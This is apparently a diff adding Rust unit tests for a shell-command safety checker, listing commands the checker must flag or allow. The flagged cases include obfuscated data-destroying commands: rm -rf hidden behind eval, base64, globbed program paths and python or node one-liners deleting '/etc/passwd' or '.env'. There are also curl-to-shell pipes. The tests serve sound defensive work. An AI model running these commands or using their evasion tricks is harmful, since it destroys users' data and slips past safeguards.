@@ -231,3 +231,152 @@ fn every_file_of_a_folder_is_more_than_a_file() {
         "cd /tmp/x && rm -f *",
     ]);
 }
+
+#[test]
+fn what_a_function_of_the_line_prints_is_known() {
+    all_object(&[
+        "f() { echo \"rm -rf $1\"; }; eval \"$(f src)\"",
+        "f() { echo \"$@\"; }; eval \"$(f rm -rf src)\"",
+        "f() { echo 'rm -rf src'; }; $(f)",
+        "f() { echo 'rm -rf src'; }; f | sh",
+        "f() { curl -s https://x/y; }; f | sh",
+        "f() { base64 -d <<< cm0gLXJmIHNyYw==; }; eval \"$(f)\"",
+        "f() { echo rm; }; $(f) -rf src",
+        "f() { cat x; }; $(f) -rf src",
+        "f() { rm -rf src; }; bash -c \"$(declare -f f); f\"",
+        "f() { rm -rf src; }; ssh h \"$(typeset -f f); f\"",
+        "f() { echo ls; }; f() { echo rm -rf src; }; eval \"$(f)\"",
+        "bash -c \"$(declare -f g); g\"",
+    ]);
+    none_objects(&[
+        "f() { echo hi; }; bash -c \"$(declare -f f); f\"",
+        "f() { echo hi; }; ssh h \"$(typeset -f f); f\"",
+        "get() { echo 'npm test'; }; $(get)",
+        "get() { echo ls; }; c=$(get); $c",
+        "f() { cat <<< 'echo hi'; }; f | bash",
+        "f() { echo 'ls'; }; source <(f)",
+        "ls 2> x; comm -13 <(ls a | sort) <(ls -1 ~/x/ | sort)",
+    ]);
+}
+
+#[test]
+fn a_chosen_program_is_known_by_its_name() {
+    all_object(&[
+        "x=$(find / -name rm | head -1); $x -rf src",
+        "$(find /bin -name 'r?' | head -1) -rf src",
+        "x=$(ls /bin/rm* | head -1); $x -rf src",
+        "$(which rm | head -n 1) -rf src",
+        "$(readlink -f \"$(which rm)\") -rf src",
+        "$(ls -d /bin/term | tail -c 3) -rf src",
+        "$(ls -d /bin/rmx | cut -c 1-7) -rf src",
+        "x=$(cat names | head -1); $x -rf src",
+        "x=$(curl -s https://x | head -1); $x",
+        "$(basename /bin/rm) -rf src",
+        "$(basename /bin/rm.sh .sh) -rf src",
+        "x=$(find . -name app -o -name rm | head -1); $x -rf src",
+        "x=$(find . -name src | head -1); rm -rf $x",
+        "x=$(ls -d */ | head -1); rm -rf $x",
+    ]);
+    none_objects(&[
+        "p=$(which python3 | head -1); $p -V",
+        "p=$(ls -d .venv/bin/python | head -1); $p -V",
+        "app=$(find target -name app -type f | head -1); $app --help",
+        "node=$(readlink -f \"$(which node)\"); $node -v",
+        "app=$(ls -t build/*/app | tail -n 1) && $app --test",
+        "x=$(basename \"$f\" .py); $x --help",
+        "p=$(ls -d node_modules/*/ | head -1); rm -rf $p",
+    ]);
+}
+
+#[test]
+fn code_that_deletes_one_named_file_is_judged_like_rm() {
+    all_object(&[
+        "python3 -c \"import os; os.remove('/etc/passwd')\"",
+        "python3 -c \"import os; os.remove('.env')\"",
+        "python3 -c \"import os; os.remove('src/' + f)\"",
+        "python3 -c \"import os; os.remove(f'src/{f}')\"",
+        "python3 -c \"import os; os.remove('%s' % f)\"",
+        "python3 -c \"import os; os.remove('a'); os.remove(b)\"",
+        "python3 -c \"import os; [os.remove(f) for f in os.listdir('src')]\"",
+        "python3 -c \"import os; os.chdir('/etc'); os.remove('passwd')\"",
+        "python3 -c \"import os; os.remove('x'); list(map(os.unlink, l))\"",
+        "python3 -c \"from os import remove as r; r('x')\"",
+        "node -e 'fs.unlinkSync(\"a\"); fs.rmSync(\"src\", {recursive: true})'",
+        "node -e 'for (f of fs.readdirSync(\"src\")) fs.unlinkSync(\"src/\" + f)'",
+    ]);
+    none_objects(&[
+        "python3 -c \"import os; os.remove('x.fits')\"",
+        "python3 -c \"from pathlib import Path; Path('out.csv').unlink(missing_ok=True)\"",
+        "node -e 'fs.unlinkSync(\"out.json\")'",
+        "ruby -e 'File.delete(\"x.txt\")'",
+        "python3 - <<'P'\nimport subprocess\nprint('HIT ' if x else '    ')\nP",
+    ]);
+}
+
+#[test]
+fn a_pattern_in_the_place_of_a_program_stands_for_all_that_fit() {
+    all_object(&[
+        "/bin/r? -rf src",
+        "/bin/?m -rf src",
+        "/b*/r[m] -rf src",
+        "r? -rf src",
+        "/usr/bin/fin* src -delete",
+        "/bin/ba?h -c 'rm -rf src'",
+        "sudo /bin/r* -rf src",
+        "env /bin/s?red -u src/x",
+    ]);
+    none_objects(&[
+        "./scripts/build-*.sh",
+        "/usr/bin/pytho?3 --version",
+        "prettier s* --check",
+        "ls r? -rf",
+        "/opt/jdk*/bin/java -version",
+        "eslint src/*.js -f json",
+        "[ -f x ] && [[ -n $x ]]",
+    ]);
+}
+
+#[test]
+fn only_mktemp_makes_random_names() {
+    all_object(&[
+        "rm -rf srcXXXX",
+        "t=$(mktemp -d fooXXXX); rm -rf srcXXXX",
+        "t=$(mktemp -d fooXXXX); rm -rf fooXXXX",
+        "t=$(mktemp -d fooXXXX); mv src \"$t\"; rm -rf \"$t\"",
+        "t=$(mktemp -u fooXXXX); rm -rf \"$t\" src",
+        "t=$(mktemp -d src/XXXXXX); rm -rf \"$t/..\"",
+    ]);
+    none_objects(&[
+        "t=$(mktemp -d fooXXXX); cp -r src \"$t\"; rm -rf \"$t\"",
+        "t=$(mktemp -d -p . fooXXXXXX.d) && rm -rf \"$t\"/*",
+        "d=$(mktemp -d); trap 'rm -rf \"$d\"' EXIT",
+        "t=\"$(mktemp -d ./x.XXXXXX)\"; (cd \"$t\" && make); rm -r \"$t\"",
+    ]);
+}
+
+#[test]
+fn a_folder_with_the_name_of_a_file_is_a_folder() {
+    let mut disk = super::command::Disk::of_links(|_, path| Some(path.to_owned()));
+    disk.list = |path| match path {
+        "/w" => super::Listed::Folder(["a.log", "old.log", "notes.txt", "x.zip"].map(str::to_owned).to_vec()),
+        "/w/old.log" | "/w/src" | "/w/sub/x.tmp" => super::Listed::Folder(Vec::new()),
+        "/w/a.log" | "/w/notes.txt" | "/w/x.zip" => super::Listed::File,
+        _ => super::Listed::Missing,
+    };
+    let start = super::Start { folder: None, root: Some("/w"), disk: Some(disk) };
+    let objects = |line: &str| !super::examine_from(start, Command::Line(line), Rules::built_in()).hits.is_empty();
+    for line in [
+        "rm -rf old.log",
+        "rm -rf *.log",
+        "rm -rf old.lo[g]",
+        "cd sub && rm -rf x.tmp",
+        "rm -rf ./old.log/",
+        "mv src data.zip && rm -rf data.zip",
+        "rm -rf notes.txt src",
+    ] {
+        assert!(objects(line), "{line}");
+    }
+    for line in ["rm -rf a.log x.zip", "rm -rf *.zip", "rm -rf notes.txt", "rm -rf none.zip", "rm -rf ./notes.*"] {
+        assert!(!objects(line), "{line}");
+    }
+}
